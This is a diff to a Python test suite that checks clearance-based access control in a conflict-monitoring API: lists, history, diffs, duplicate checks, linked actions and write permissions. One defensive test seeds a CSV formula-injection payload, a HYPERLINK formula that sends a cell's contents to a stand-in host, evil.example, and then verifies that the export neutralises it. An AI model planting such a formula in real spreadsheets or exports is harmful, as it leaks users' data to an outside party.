@@ -1,11 +1,14 @@
 """The security matrix: every role × every clearance × every endpoint.
 
-A user never sees above their clearance — in lists, single reads, search, exports, counts and
-the audit log alike — and never writes above their role (403) or while anonymous (401).
+A user never sees above their clearance — in lists, single reads, search, exports, counts,
+the audit log, an assessment's history, an action's links and the answers of duplicate checks
+alike — and never writes above their role (403) or while anonymous (401).
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
@@ -23,7 +26,8 @@ from vigil.workspace.users import system_actor
 
 PAIRS = [(role, level) for role in ROLES for level in LEVELS]
 IDS = [f"{role}-{level}" for role, level in PAIRS]
-RESOURCES = ("reports", "notes", "assessments", "alerts")
+RESOURCES = ("reports", "notes", "assessments", "alerts", "actions")
+WRITERS = [p for p in PAIRS if p[0] != "viewer"]
 
 
 @dataclass
@@ -40,6 +44,7 @@ class World:
 def _seed(client: TestClient, url: str, token: str) -> dict[str, dict[str, int]]:
     auth = bearer(token)
     seeded: dict[str, dict[str, int]] = {r: {} for r in (*RESOURCES, "sources", "comments")}
+    seeded["declassified"] = {}
     for level in LEVELS:
         posts = {
             "reports": (
@@ -72,7 +77,34 @@ def _seed(client: TestClient, url: str, token: str) -> dict[str, dict[str, int]]
             json={"body": level, "confidentiality": level},
         )
         seeded["comments"][level] = response.json()["id"]
+        action = {"iso3": "SDN", "type": "mediation", "actor": "AU", "title": f"act {level}"}
+        response = client.post(
+            "/api/v1/actions",
+            headers=auth,
+            json={**action, "started_on": "2025-01-02", "confidentiality": level,
+                  "alert_ids": [seeded["alerts"][level]]},
+        )  # fmt: skip
+        assert response.status_code == 201, response.text
+        seeded["actions"][level] = response.json()["id"]
+    seeded["declassified"]["id"] = _declassified(client, auth)
     return seeded
+
+
+def _declassified(client: TestClient, auth: dict[str, str]) -> int:
+    """An assessment written while confidential (version 1), then declassified (version 2)."""
+    made = client.post(
+        "/api/v1/assessments",
+        headers=auth,
+        json={"iso3": "SDN", "assessed_on": "2025-03-01", "confidentiality": "confidential",
+              "summary": "secret summary from the field"},
+    ).json()  # fmt: skip
+    changed = client.patch(
+        f"/api/v1/assessments/{made['id']}",
+        headers=auth,
+        json={"version": 1, "confidentiality": "public", "summary": "public summary"},
+    )
+    assert changed.status_code == 200, changed.text
+    return int(made["id"])
 
 
 @pytest.fixture(scope="module", params=backends())
@@ -123,6 +155,113 @@ def test_search_export_sources_and_comments_stop_at_the_clearance(
     assert all(s["confidentiality"] in allowed for s in sources)
     alert = world.get(f"/api/v1/alerts/{world.seeded['alerts']['public']}", who).json()
     assert {c["body"] for c in alert["comments"]} == allowed
+
+
+@pytest.mark.parametrize("who", PAIRS, ids=IDS)
+def test_alert_lists_carry_only_the_comments_within_the_clearance(
+    world: World, who: tuple[str, str]
+) -> None:
+    listed = world.get("/api/v1/alerts?iso3=SDN&limit=500", who).json()["items"]
+    [alert] = [a for a in listed if a["id"] == world.seeded["alerts"]["public"]]
+    assert {c["body"] for c in alert["comments"]} == _allowed(who[1])
+    for item in listed:
+        assert all(c["confidentiality"] in _allowed(who[1]) for c in item["comments"])
+
+
+@pytest.mark.parametrize("who", PAIRS, ids=IDS)
+def test_history_and_diff_show_only_revisions_within_the_clearance(
+    world: World, who: tuple[str, str]
+) -> None:
+    assessment = world.seeded["declassified"]["id"]
+    history = world.get(f"/api/v1/assessments/{assessment}/history", who)
+    assert history.status_code == 200
+    cleared = who[1] == "confidential"
+    assert [r["version"] for r in history.json()] == ([1, 2] if cleared else [2])
+    assert ("secret summary" in history.text) is cleared
+    diff = world.get(f"/api/v1/assessments/{assessment}/diff?from_version=1", who)
+    assert diff.status_code == (200 if cleared else 404)
+    assert "secret summary" not in diff.text or cleared
+    backwards = world.get(f"/api/v1/assessments/{assessment}/diff?from_version=2&to_version=1", who)
+    assert backwards.status_code == (200 if cleared else 404)
+
+
+@pytest.mark.parametrize("who", PAIRS, ids=IDS)
+def test_actions_and_their_links_stop_at_the_clearance(world: World, who: tuple[str, str]) -> None:
+    allowed = _allowed(who[1])
+    alert_levels = {v: k for k, v in world.seeded["alerts"].items()}
+    for item in world.get("/api/v1/actions?limit=500", who).json()["items"]:
+        assert {alert_levels.get(a, "public") for a in item["alert_ids"]} <= allowed
+    report = world.get("/api/v1/responses/report?iso3=SDN", who).json()
+    [situation] = report["situations"]
+    shown = {t["id"] for t in situation["timeline"] if t["kind"] == "action"}
+    assert shown == {world.seeded["actions"][level] for level in allowed}
+
+
+@pytest.mark.parametrize("who", WRITERS, ids=IDS[3:])
+def test_an_action_linking_an_alert_is_classified_at_least_as_high(
+    world: World, who: tuple[str, str]
+) -> None:
+    response = world.client.post(
+        "/api/v1/actions",
+        headers=bearer(world.tokens[who]),
+        json={"iso3": "MMR", "type": "mediation", "actor": "AU", "title": "linked",
+              "started_on": "2025-01-02", "alert_ids": [world.seeded["alerts"][who[1]]]},
+    )  # fmt: skip
+    assert response.status_code == 201, response.text
+    assert response.json()["confidentiality"] == who[1]
+
+
+SECRET_STORY = (
+    "Witnesses in the northern district describe militia units rounding up men from the "
+    "displacement camp at night, separating them by ethnicity and taking them to the old "
+    "cotton gin, where shots were heard until morning; local officials deny any knowledge. "
+)
+
+
+@pytest.mark.parametrize("who", WRITERS, ids=IDS[3:])
+def test_duplicate_checks_compare_only_with_what_the_caller_may_see(
+    world: World, who: tuple[str, str]
+) -> None:
+    admin, mine = bearer(world.tokens[("admin", "confidential")]), bearer(world.tokens[who])
+    tag = _unique()
+    story = f"{SECRET_STORY} Reference {tag}."
+    secret = world.client.post(
+        "/api/v1/reports?triage=false",
+        headers=admin,
+        json={"text": story, "confidentiality": "confidential"},
+    ).json()["id"]
+    cleared = who[1] == "confidential"
+    exact = world.client.post("/api/v1/reports?triage=false", headers=mine, json={"text": story})
+    assert exact.status_code == (409 if cleared else 201), exact.text
+    if cleared:
+        assert f"(report {secret})" in exact.json()["error"]["message"]
+    else:
+        assert exact.json()["near_duplicate_of"] != secret
+    near = world.client.post(
+        "/api/v1/reports?triage=false",
+        headers=mine,
+        json={"text": f"{story} One more line {_unique()}.", "confidentiality": who[1]},
+    )
+    assert near.status_code == 201, near.text
+    if cleared:
+        assert near.json()["near_duplicate_of"] == secret
+    else:
+        assert near.json()["near_duplicate_of"] != secret
+        assert near.json()["similarity"] is None or near.json()["near_duplicate_of"] is not None
+
+
+@pytest.mark.parametrize("who", WRITERS, ids=IDS[3:])
+def test_a_source_name_conflict_reveals_only_visible_sources(
+    world: World, who: tuple[str, str]
+) -> None:
+    name = f"field network {_unique()}"
+    admin, mine = bearer(world.tokens[("admin", "confidential")]), bearer(world.tokens[who])
+    made = world.client.post(
+        "/api/v1/sources", headers=admin, json={"name": name, "confidentiality": "confidential"}
+    )
+    assert made.status_code == 201
+    again = world.client.post("/api/v1/sources", headers=mine, json={"name": name})
+    assert again.status_code == (409 if who[1] == "confidential" else 201), again.text
 
 
 @pytest.mark.parametrize("who", PAIRS, ids=IDS)
@@ -292,3 +431,21 @@ def test_nobody_writes_above_their_own_clearance(
             path, headers=bearer(world.tokens[who]), json={**unique, "confidentiality": level}
         )
         assert response.status_code == 403, response.text
+
+
+def test_exported_cells_never_start_like_a_formula(world: World) -> None:
+    admin = bearer(world.tokens[("admin", "confidential")])
+    title = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    made = world.client.post(
+        "/api/v1/reports?triage=false",
+        headers=admin,
+        json={"title": title, "text": f"@SUM(1+1) formula test {_unique()}"},
+    )
+    assert made.status_code == 201, made.text
+    export = world.get(
+        "/api/v1/reports/export?format=csv&q=formula+test", ("admin", "confidential")
+    )
+    rows = list(csv.DictReader(io.StringIO(export.text)))
+    assert [r["title"] for r in rows] == ["'" + title]
+    assert rows[0]["text"].startswith("'@SUM")
+    assert all(not v.startswith(("=", "+", "@", "\t", "\r")) for r in rows for v in r.values())
